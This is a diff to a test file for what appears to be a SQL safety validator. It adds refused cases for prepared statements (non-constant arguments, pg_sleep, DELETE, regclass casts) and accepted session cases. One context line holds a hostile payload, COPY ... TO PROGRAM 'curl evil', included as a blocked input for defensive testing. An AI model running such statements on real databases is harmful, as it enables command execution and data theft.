@@ -10,9 +10,18 @@ const cases: Golden[] = [
   refused('COPY (SELECT * FROM orders) TO PROGRAM \'curl evil\'', 'COPY'),
   refused('DO $$ BEGIN PERFORM 1; END $$', 'DO'),
   refused('CALL refresh_everything()', 'CALL'),
-  // SQL-level prepared statements and cursors.
-  refused('PREPARE p AS SELECT 1', 'PREPARE'),
-  refused('EXECUTE p', 'EXECUTE'),
+  // SQL-level prepared statements: what PREPARE'd bodies and EXECUTE arguments may not be.
+  refused('EXPLAIN EXECUTE p', 'EXPLAIN EXECUTE'),
+  refused('CREATE TABLE t AS EXECUTE p', 'CREATE TABLE AS'),
+  { sql: 'EXECUTE p ((SELECT 1))', err: 'statement_not_allowed', message: 'argument 1 of EXECUTE p is not a constant' },
+  { sql: 'EXECUTE p (1, upper($1))', err: 'statement_not_allowed', message: 'argument 2 of EXECUTE p is not a constant' },
+  { sql: "EXECUTE p ('orders'::regclass)", err: 'function_not_allowed', message: 'cast to regclass' },
+  { sql: 'PREPARE p AS SELECT pg_sleep(1)', err: 'function_not_allowed', message: 'pg_sleep' },
+  { sql: 'PREPARE p AS DELETE FROM orders', err: 'model_writes_disabled', message: 'DELETE on orders' },
+  { sql: 'PREPARE p AS SELECT 1 FOR UPDATE', err: 'statement_not_allowed', message: 'FOR UPDATE' },
+  { sql: 'PREPARE p (regclass) AS SELECT $1', err: 'function_not_allowed', message: 'cast to regclass' },
+  // Without a catalog no declared type can be checked: refused (fail closed).
+  { sql: 'PREPARE p (int) AS SELECT $1', err: 'type_not_allowed', message: 'parameter type "int4"' },
   // Notifications, locks, maintenance, server state.
   refused('LISTEN orders_changed', 'LISTEN'),
   refused("NOTIFY orders_changed, 'x'", 'NOTIFY'),
@@ -76,4 +85,7 @@ runGolden([
   { sql: 'CLOSE ALL', out: 'CLOSE ALL', kinds: ['session'] },
   { sql: 'UNLISTEN *', out: 'UNLISTEN *', kinds: ['session'] },
   { sql: 'DISCARD ALL', out: 'DISCARD ALL', kinds: ['session'] },
+  { sql: 'PREPARE p AS SELECT 1', out: 'PREPARE p AS SELECT 1', kinds: ['session'] },
+  { sql: "EXECUTE p (1, -2.5, 'a'::text, NULL, $1)", out: "EXECUTE p (1, -2.5, 'a'::text, NULL, $1)", kinds: ['session'] },
+  { sql: 'EXECUTE p', out: 'EXECUTE p', kinds: ['session'] },
 ]);
